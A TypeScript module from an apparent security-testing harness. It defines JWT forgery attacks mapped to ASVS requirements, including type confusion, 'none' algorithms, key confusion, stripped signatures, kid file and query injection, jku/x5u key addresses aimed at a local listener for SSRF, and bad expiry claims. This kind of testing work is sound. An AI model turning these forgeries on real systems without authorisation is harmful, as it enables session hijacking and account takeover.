import type { JsonWebKey } from 'node:crypto';
import { once } from 'node:events';
import { createServer } from 'node:http';
import { type Attack, type AttackResult, notApplicable, Tries } from '../attack.js';
import { Inconclusive } from '../tools/browser.js';
import {
  buildCookie,
  type Forgery,
  fetchUser,
  type Header,
  makeContent,
  makeOwnPairs,
  makeShopSigner,
  proveContent,
  readToken,
  sendForgeries,
  type TokenContent,
} from '../tools/forge.js';
import {
  forgeAlgorithms,
  forgeClaims,
  forgeExtensions,
  forgeKeyAddresses,
  forgeSignatures,
  forgeWithOwnKeys,
  listenersAnswer,
  listForeignClaims,
  listWrongTimes,
} from '../tools/jwt-forgeries.js';
import { enrolUser, logInFreshUser, preLoginOf } from '../tools/shop.js';
import { originsOf, type Target } from '../tools/target.js';

export const jwtType: Attack = {
  title: 'send a refresh or pre-authentication token, or a token signed as another type, in place of an access token',
  asvs: ['9.2.2'],
  probes: {
    'another type': ['jwt-trusting'],
    'a part of the own cookie': ['jwt-trusting'],
    'a pre-authentication token': ['jwt-trusting'],
  },
  run: tryTypes,
};

const types: readonly unknown[] = [
  'JWT',
  'refresh+jwt',
  'pre-login+jwt',
  'AT+JWT',
  'application/at+jwt',
  '',
  null,
  undefined,
];

/** Sends genuine tokens of the shop in the wrong place, and tokens that its key signed as another type. */
async function tryTypes(target: Target) {
  const preLogin = target.strategy === 'jwt' ? await fetchPreLoginToken(target) : '';
  return tryForgeries(target, async forge => {
    const ring = await target.keyRing();
    const typed = types.map(typ => ({
      probe: 'another type',
      what: `typ ${JSON.stringify(typ)} under a good signature`,
      token: buildCookie({ ...forge.header, typ } satisfies Header, forge.content, makeShopSigner(ring)),
    }));
    return [...typed, ...misplaceTokens(forge, preLogin)];
  });
}

async function fetchPreLoginToken(target: Target): Promise<string> {
  const { user } = await enrolUser(target);
  const token = (await preLoginOf(target, user)).cookies.get('pre-login');
  if (token === undefined) throw new Inconclusive('the password alone gives no pre-authentication token');
  return token;
}

function misplaceTokens({ ownCookie, content }: Forge, preLogin: string): readonly Forgery[] {
  const [access = '', refresh = ''] = ownCookie.split('~');
  const [own, other] = ['a part of the own cookie', 'a pre-authentication token'];
  return [
    { probe: own, what: 'the refresh token alone', token: refresh },
    { probe: own, what: 'the refresh token in both places', token: `${refresh}~${refresh}` },
    { probe: own, what: 'the refresh token and no access token', token: `~${refresh}` },
    { probe: own, what: 'the access token alone', token: access },
    { probe: own, what: 'the access token and no refresh token', token: `${access}~` },
    { probe: own, what: 'the access token in both places', token: `${access}~${access}` },
    {
      probe: own,
      what: 'the access token with the refresh token of another session',
      token: `${access}~${content.refresh}`,
    },
    { probe: other, what: 'the pre-authentication token', token: preLogin },
    { probe: other, what: 'the pre-authentication token with a refresh token', token: `${preLogin}~${refresh}` },
    { probe: other, what: 'the access token with the pre-authentication token', token: `${access}~${preLogin}` },
  ];
}

export const jwtAlgorithm: Attack = {
  title: 'send a token that asks for another algorithm: "none" in every spelling, or a published key used as a secret',
  asvs: ['9.1.2'],
  probes: { 'alg "none"': ['jwt-trusting'], 'another digest': ['jwt-trusting'], 'a published key': ['jwt-trusting'] },
  run: target =>
    tryForgeries(target, async ({ header, content }, tries) =>
      forgeAlgorithms(header, content, await target.keyRing(), await fetchPublishedKeys(target, tries)),
    ),
};

const keyPaths = ['/.well-known/jwks.json', '/jwks.json', '/keys.json', '/.well-known/openid-configuration/jwks'];

/** Returns the public keys that the system publishes (RFC 7517 section 5). None is the usual answer: it has a secret. */
async function fetchPublishedKeys(target: Target, tries: Tries): Promise<readonly JsonWebKey[]> {
  const answers = await Promise.all(keyPaths.map(path => target.browser().get(path)));
  // Looking for a key is a try: without a published key there is nothing to sign with.
  for (const answer of answers) tries.of('a published key').add('no key is published here', false, answer);
  return answers.flatMap(({ status, json: { keys } }) =>
    status === 200 && Array.isArray(keys) ? keys.map(Object) : [],
  );
}

export const jwtSignature: Attack = {
  title:
    'send a token with a signature that is missing, empty, all zeros, made over another text or with a guessed key',
  asvs: ['9.1.1'],
  probes: {
    'no signature': ['jwt-trusting'],
    'another signature': ['jwt-trusting'],
    'a guessed key': ['jwt-trusting'],
  },
  run: target =>
    tryForgeries(target, async ({ header, content, ownSignature }) => forgeSignatures(header, content, ownSignature)),
};

/** The tokens are signed with the key of the shop, as by another service that shares it. */
export const jwtAudience: Attack = {
  title: 'send a well-signed token that was made for another audience or by another issuer',
  asvs: ['9.2.3', '9.2.4'],
  probes: { aud: ['jwt-trusting'], iss: ['jwt-trusting'] },
  run: target =>
    tryForgeries(target, async ({ header, content }) =>
      forgeClaims(header, content, await target.keyRing(), listForeignClaims(content.claims)),
    ),
};

export const jwtOwnKey: Attack = {
  title: 'send a token that brings its own key (jwk, x5c), names a file or query as its key (kid), or has an extension',
  asvs: ['9.1.3'],
  probes: {
    'a key in jwk': ['jwt-trusting'],
    'a certificate in x5c': ['jwt-trusting'],
    'a file as kid': ['jwt-trusting'],
    'a query as kid': ['jwt-trusting'],
    'an unknown extension': ['jwt-trusting'],
  },
  run: target =>
    tryForgeries(target, async ({ header, content }) => [
      ...forgeWithOwnKeys(header, content, await makeOwnPairs()),
      ...forgeExtensions(header, content, await target.keyRing()),
    ]),
};

/** The tokens are signed with the key of the shop, as by another service that shares it. So only a claim is wrong. */
export const jwtTimes: Attack = {
  title: 'send a well-signed token whose expiry is missing, no number, past or years away, or that is not valid yet',
  asvs: ['9.2.1'],
  probes: { exp: ['jwt-trusting'], iat: ['jwt-trusting'], nbf: ['jwt-trusting'], absolute: ['jwt-trusting'] },
  run: target =>
    tryForgeries(target, async ({ header, content }) =>
      forgeClaims(header, content, await target.keyRing(), listWrongTimes(Date.now() / 1000)),
    ),
};

export const jwtKeyAddress: Attack = {
  title: "send a token that names the attacker's server as the address of its key (jku, x5u, kid, iss); count requests",
  asvs: ['9.1.3'],
  probes: { jku: ['jwt-trusting'], x5u: ['jwt-trusting'], kid: ['jwt-trusting'], iss: ['jwt-trusting'] },
  run: tryKeyAddresses,
};

/** Counts a request to a named address as success too: an attacker could send requests through the server (SSRF). */
async function tryKeyAddresses(target: Target): Promise<AttackResult> {
  if (target.strategy !== 'jwt') return notApplicable(noSignedToken);
  return withListener(listenersAnswer, async listener => {
    const { status } = await fetch(`${listener.url}/own`);
    if (status !== 200 || !listener.paths.has('/own')) throw new Inconclusive('the listener does not see its requests');
    const tries = new Tries();
    const forge = await prepareProvenForge(target);
    for (const { probe, what, token } of forgeKeyAddresses(forge.header, forge.content, listener.url)) {
      const { user, answer } = await fetchUser(target, token);
      const isAsked = [...listener.paths].some(path => path.startsWith(`/${probe}`));
      const reason = isAsked ? `${what}: the system asked the named address` : `${what}: accepted as ${user}`;
      tries.of(probe).add(reason, isAsked || user !== undefined, answer);
    }
    return tries.result();
  });
}

/** A server of the attacker on a real socket. Only a system that followed a token asks it. */
interface Listener {
  readonly url: string;
  /** The paths of the requests so far. */
  readonly paths: ReadonlySet<string>;
}

/** Runs `work` with a listener that answers every request with `answer`, then closes the listener. */
export async function withListener<T>(answer: string, work: (listener: Listener) => Promise<T>): Promise<T> {
  const paths = new Set<string>();
  const server = createServer(({ url = '' }, response) => {
    paths.add(url);
    response.writeHead(200, { 'content-type': 'application/json', connection: 'close' }).end(answer);
  });
  await once(server.listen(0, '127.0.0.1'), 'listening');
  const address = server.address();
  const port = typeof address === 'object' && address !== null ? address.port : 0;
  try {
    return await work({ url: `http://127.0.0.1:${port}`, paths });
  } finally {
    server.closeAllConnections();
    server.close();
  }
}

/** The material of an attacker: an own genuine token, and the name of a victim. */
interface Forge {
  readonly header: Readonly<Record<string, unknown>>;
  readonly ownSignature: string;
  readonly ownCookie: string;
  readonly content: TokenContent;
  readonly victim: string;
}

const noSignedToken = 'the session cookie is not a signed token';

/** Sends every cookie that `forgeries` makes to GET /me. */
async function tryForgeries(
  target: Target,
  forgeries: (forge: Forge, tries: Tries) => Promise<readonly Forgery[]>,
): Promise<AttackResult> {
  if (target.strategy !== 'jwt') return notApplicable(noSignedToken);
  const [forge, tries] = [await prepareProvenForge(target), new Tries()];
  return sendForgeries(target, await forgeries(forge, tries), tries);
}

async function prepareProvenForge(target: Target): Promise<Forge> {
  const forge = await prepareForge(target);
  const sound = buildCookie(forge.header, forge.content, makeShopSigner(await target.keyRing()));
  await proveContent(target, sound, forge.victim);
  return forge;
}

/** Shows the own token to every backend: one that remembers good signatures knows only those that it has seen. */
async function prepareForge(target: Target): Promise<Forge> {
  const { browser } = await logInFreshUser(target);
  const victim = target.freshUser();
  const own = readToken(browser.token);
  if (own === undefined) throw new Inconclusive('the session cookie of mode jwt holds no signed token');
  for (const origin of originsOf(target)) await fetchUser(target, browser.token, origin);
  const { header, claims, signature } = own;
  return { header, ownSignature: signature, ownCookie: browser.token, content: makeContent(victim, claims), victim };
}
